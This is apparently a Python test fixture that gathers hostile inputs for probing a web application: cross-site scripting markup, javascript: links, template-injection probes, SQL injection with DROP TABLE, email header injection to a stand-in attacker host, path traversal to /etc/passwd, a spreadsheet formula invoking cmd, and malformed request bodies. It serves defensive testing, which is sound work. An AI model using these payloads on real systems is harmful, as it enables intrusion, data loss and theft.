"""What somebody hostile types. Values that do not get in each other's way stand in one, to be sent at once."""

from __future__ import annotations

from tests.attack.reading import EVIL

MARKUP = (
    "</textarea></title></script>--><script>vfm_ran()</script><img src=x onerror=vfm_ran()>"
    "<svg onload=vfm_ran()><animate onbegin=vfm_ran()></svg><vfmx>"
    f"<a href=javascript:vfm_ran()>x</a><iframe srcdoc='<script>parent.vfm_ran()</script>'><base href=//{EVIL}/>"
)
ATTRIBUTES = (
    "\"'` onfocus=vfm_ran() autofocus x=\"' "
    f'style="background:url(//{EVIL}/)" formaction=javascript:vfm_ran() &quot; &#34; <!-- ]]>'
)
MARKDOWN = (
    f"[x](javascript:vfm_ran()) ![x](//{EVIL}/a.png) <https://{EVIL}>\n\n<vfmx onclick=1>\n\n"
    "[y]\n\n[y]: javascript:vfm_ran()\n\n    <vfmx>\n\n| a |\n|-|\n| <vfmx> |\n"
)
TEMPLATES = (
    "{{7919*104729}} {% for x in [].__class__.__mro__ %}{{x}}{% endfor %} ${7919*104729} #{7919*104729} <%= 7919*104729 %> "
    "%s %n %(x)s {0.__class__} {x!r:>99}"
)
SQL = "'; DROP TABLE project; -- \" OR 1=1 UNION SELECT digest FROM link /* % _ \\"
HEADERS = (
    f"Subject\r\nBcc: everybody@{EVIL}\r\nX-Injected: yes\r\n\r\n<vfmx>\n"
    f"To: x@{EVIL}\x0bX-Injected: yes\u2028X-Injected: yes\x85 =?utf-8?q?=0D=0AX-Injected:_yes?="
)
UNICODE = (
    "\u202eevil\u202c \u2066x\u2069 \u200b\u200d\ufeff\ufffe \U0001f469\u200d\U0001f692\U0001f1ec\U0001f1e7 "
    f"Z{chr(0x300) * 40} ß ı İ ﬃ \U000e0041 ａ ٣ 一"
)
CONTROL = "a\x00b\x01c\x08\x1b[31md\x7fe\x9ff"
PATHS = "../../../../etc/passwd%00 ..\\..\\ /dev/zero file:///etc/passwd C:\\con\\con"
JSON = '{"$ne": null, "__proto__": {"x": 1}, "choice": ["approve"]}'
VALUES = {
    "empty": "",
    "blank": " \t\u00a0\u3000\n ",
    "long": "vfmx <vfmx> " * 8_400,  # 100,000 characters
    "one long word": "x" * 5_000,
    "markup": MARKUP,
    "attributes": ATTRIBUTES,
    "markdown": MARKDOWN,
    "languages": f"{TEMPLATES} {SQL} {PATHS} {JSON}",
    "headers": HEADERS,
    "unicode": UNICODE,
    "control": CONTROL,
    "formula": f"=HYPERLINK(\"//{EVIL}/\"&A1)+cmd|' /C calc'!A0",
    "sql": SQL,
}
"""Name → what is typed where any text goes."""
FIGURES = {
    "empty": "",
    "long": "9" * 400,
    "longer": "1" * 100_000,
    "minus": "-1",
    "no number": "NaN Infinity 1e999 0x7f ١٢ ½ −5",
    "day": "31/02/2026",
    "control": CONTROL,
    "address": f"head@wrenfold.example, x@{EVIL}\r\nRCPT TO:<x@{EVIL}>",
    "sql": SQL,
}
"""Name → what is typed where a figure, a date or an address goes."""

BODIES: list[tuple[str, bytes]] = [
    ("application/x-www-form-urlencoded", b"a=%ff%fe&title=%ed%a0%80%80&choice=%c0%af&nonce=%00&=&&=x&%=%zz"),
    ("application/x-www-form-urlencoded; charset=utf-16", b"\xff\xfet\x00=\x00\xd8"),
    ("application/json", JSON.encode()),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="title"\r\n\r\n\xff\r\n--x--\r\n',
    ),
    ("multipart/form-data", b"no boundary"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: nonsense\r\n\r\n"),
    ("text/plain", b""),
]
"""Content types and bodies that no browser of a person sends."""
